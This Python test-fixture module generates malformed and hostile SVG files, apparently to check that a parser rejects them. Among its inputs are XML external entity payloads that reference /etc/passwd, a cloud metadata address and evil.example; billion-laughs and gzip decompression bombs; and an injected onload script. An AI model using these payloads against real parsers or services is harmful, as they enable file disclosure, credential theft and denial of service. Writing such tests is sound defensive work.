"""SVG files that are broken as pictures, or that would harm whoever reads them carelessly."""

import gzip
import random

from hostile.registry import broken
from phalera_core import errors

NS = 'xmlns="http://www.w3.org/2000/svg"'
PUBLIC_TYPE = (
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
)


def picture(inside="", *, before="", declared="", after=""):
    """Give a picture of one circle with something before its root, in its root, inside it and behind it."""
    return f'{before}<svg {NS} {declared}><circle r="4"/>{inside}</svg>{after}'.encode()


def typed(subset, root=""):
    """Give a picture with a document type of its own."""
    return picture(root, before=f"<!DOCTYPE svg [{subset}]>")


# Document types and entities.


@broken("svg")
def entities_of_a_billion_laughs():
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return typed(f'<!ENTITY l0 "lol">{levels}', "&l9;")


@broken("svg")
def entities_of_quadratic_growth():
    return typed(f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 50_000)


@broken("svg")
def entities_in_a_circle():
    return typed('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")


@broken("svg")
def entity_declared_and_never_used():
    return typed('<!ENTITY a "b">')


@broken("svg")
def entity_in_an_attribute():
    return picture(before='<!DOCTYPE svg [<!ENTITY a "red">]>', declared='fill="&a;"')


@broken(
    "svg",
    variants=[
        "file:///etc/passwd",
        "http://127.0.0.1:1/",
        "https://evil.example/",
        "ftp://h/",
        "jar:x!/",
        "\\\\h\\x",
    ],
)
def entity_from_outside(address):
    return typed(f'<!ENTITY a SYSTEM "{address}">', "&a;")


@broken("svg", variants=["file:///dev/random", "http://169.254.169.254/latest/"])
def entity_of_parameters_from_outside(address):
    return typed(f'<!ENTITY % a SYSTEM "{address}"> %a;')


@broken("svg")
def entity_that_is_not_parsed():
    return typed('<!NOTATION n SYSTEM "n"><!ENTITY a SYSTEM "x.gif" NDATA n>')


@broken("svg")
def entities_redefining_the_predefined():
    return typed('<!ENTITY lt "&#38;#60;"><!ENTITY amp "&#38;#38;">')


@broken("svg", variants=["http://evil.example/x.dtd", "file:///etc/passwd", "x.dtd"])
def document_type_from_outside(address):
    return picture(before=f'<!DOCTYPE svg SYSTEM "{address}">')


@broken("svg")
def document_type_public_from_elsewhere():
    return picture(before=PUBLIC_TYPE.replace("www.w3.org/G", "evil.example/G"))


@broken("svg")
def document_type_public_with_a_subset():
    return picture(before=PUBLIC_TYPE.replace(">", " []>"))


@broken("svg")
def document_type_of_html():
    return picture(before='<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd">')


@broken("svg")
def document_type_alone():
    return picture(before="<!DOCTYPE svg>")


@broken("svg")
def document_type_with_attributes_by_default():
    return typed('<!ATTLIST svg onload CDATA "alert(1)">')


@broken("svg")
def document_type_with_elements():
    return typed("<!ELEMENT svg ANY>")


@broken("svg")
def document_type_twice():
    return picture(before=PUBLIC_TYPE * 2)


@broken("svg")
def document_type_inside():
    return picture(PUBLIC_TYPE)


@broken("svg")
def document_type_unfinished():
    return b"<!DOCTYPE svg [" + b"<!ENTITY " * 50_000


@broken("svg", variants=["nbsp", "copy", "x", "#0", "#xD800", "#xFFFE", "#x110000", "#99999999999"])
def reference_to_nothing(name):
    return picture(f"&{name};")


# Size and shape.


@broken("svg", variants=[201, 1_000, 20_000, 140_000], error=errors.TooLargeError)
def groups_nested(depth):
    return picture("<g>" * depth + "</g>" * (depth if depth < 100_000 else 0))


@broken("svg", error=errors.TooLargeError)
def groups_nested_without_end():
    return f"<svg {NS}>".encode() + b"<g>" * 330_000


@broken("svg", variants=[50_000, 200_000], error=errors.TooLargeError)
def elements_without_number(count):
    return picture("<g/>" * count)


@broken("svg", error=errors.TooLargeError)
def file_of_four_megabytes():
    return picture(" " * 4_000_000)


@broken("svg")
def attributes_twice_among_sixty_thousand():
    return picture("<g" + "".join(f" a{n}=''" for n in range(60_000)) + " a59999=''/>")


@broken("svg")
def namespaces_without_number_and_one_unbound():
    return picture("<g" + "".join(f" xmlns:a{n}='u{n}'" for n in range(30_000)) + "><b:c/></g>")


@broken("svg")
def names_that_collide_and_one_tag_open():
    names = ["".join(random.Random(n).choices("Aa", k=16)) for n in range(20_000)]
    return picture("".join(f"<{name}/>" for name in names) + "<g>")


@broken("svg")
def attribute_without_end():
    return f"<svg {NS} a='".encode() + b"x" * 900_000


@broken("svg")
def comment_without_end():
    return picture("<!--" + "-" * 900_000)


@broken("svg")
def section_without_end():
    return picture("<![CDATA[" + "]" * 900_000)


@broken("svg")
def instruction_without_end():
    return picture("<?x " + "?" * 900_000)


@broken("svg")
def tag_without_end():
    return b"<svg " + b" " * 900_000


# Encodings.


@broken("svg", variants=["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
def encoding_of_many_bytes(encoding):
    return picture().decode().encode(encoding)


@broken(
    "svg",
    variants=["utf-16", "utf-7", "iso-8859-1", "windows-1252", "shift_jis", "cp037", "us-ascii", "x" * 99],
)
def encoding_declared_otherwise(encoding):
    return picture(before=f"<?xml version='1.0' encoding='{encoding}'?>")


@broken(
    "svg",
    variants=[
        b"\xff",
        b"\xc0\xbc",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xe2\x82",
        b"\xf8\x88\x80\x80\x80",
    ],
)
def encoding_broken(sequence):
    return picture("@").replace(b"@", sequence)


@broken("svg", variants=["\x00", "\x01", "\x0b", "\x1b", "\x1f", "\ufffe", "\uffff"])
def character_that_xml_excludes(character):
    return picture(character)


@broken("svg")
def encoding_of_ebcdic():
    return picture().decode().encode("cp037")


@broken("svg")
def byte_order_mark_twice():
    return b"\xef\xbb\xbf\xef\xbb\xbf" + picture()


@broken("svg")
def packed_as_svgz():
    return gzip.compress(picture(), mtime=0)


@broken("svg")
def packed_bomb_as_svgz():
    return gzip.compress(picture(" " * 50_000_000), mtime=0)


# Well-formedness.


@broken("svg", variants=[1, 10, 40, 47, 57, 61])
def cut_at_byte(place):
    return picture()[:place]


@broken(
    "svg",
    variants=["g", "svg", "/svg>", "</g", "<>", "<1/>", "< g/>", "<g a/>", "<g a=b/>", "<g a='b/>", "</g>"],
)
def tag_broken(tag):
    return picture() + tag.encode() if tag in {"g", "svg", "/svg>"} else picture(tag)


@broken("svg")
def roots_twice():
    return picture() * 2


@broken("svg")
def declaration_late():
    return b" <?xml version='1.0'?>" + picture()


@broken("svg")
def declaration_inside():
    return picture("<?xml version='1.0'?>")


@broken("svg")
def attribute_twice():
    return picture("<g a='1' a='2'/>")


@broken("svg")
def attribute_twice_by_namespace():
    return picture("<g xmlns:a='u' xmlns:b='u' a:c='1' b:c='2'/>")


@broken("svg")
def attribute_with_a_tag_inside():
    return picture("<g a='<b/>'/>")


@broken("svg", variants=["<a:g/>", "<g a:b=''/>", "<g xmlns:a=''/>", "<a:b:c/>", "<g xmlns:xmlns='u'/>"])
def namespace_broken(inside):
    return picture(inside)


@broken("svg")
def namespace_with_the_separator_of_parsers():
    return picture("<a:g xmlns:a='http://openbadges.org assertion'/>")


@broken("svg")
def tags_crossed():
    return picture("<a><b></a></b>")


@broken("svg")
def section_ended_in_text():
    return picture("]]>")


@broken("svg")
def comment_with_two_dashes():
    return picture("<!-- a -- b -->")


# Other things under the name of an SVG.


@broken("svg", variants=["html", "xhtml", "mathml", "rss", "plist", "soap", "empty", "blank", "text"])
def other_file_named_svg(kind):
    return {
        "html": b"<!doctype html><html><body><svg></svg></body></html>",
        "xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>',
        "mathml": b'<math xmlns="http://www.w3.org/1998/Math/MathML"/>',
        "rss": b"<rss version='2.0'><channel/></rss>",
        "plist": b"<plist><dict/></plist>",
        "soap": b"<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'/>",
        "empty": b"",
        "blank": b" \n" * 500,
        "text": b"svg",
    }[kind]


@broken("svg")
def root_of_another_namespace():
    return picture().replace(b"http://www.w3.org/2000/svg", b"http://www.w3.org/2000/svgx")


@broken("svg")
def root_in_capitals():
    return picture().replace(b"svg ", b"SVG ").replace(b"/svg>", b"/SVG>")


@broken("svg", variants=range(6))
def noise_behind_the_root(seed):
    return picture()[:-6] + random.Random(seed).randbytes(2_000)
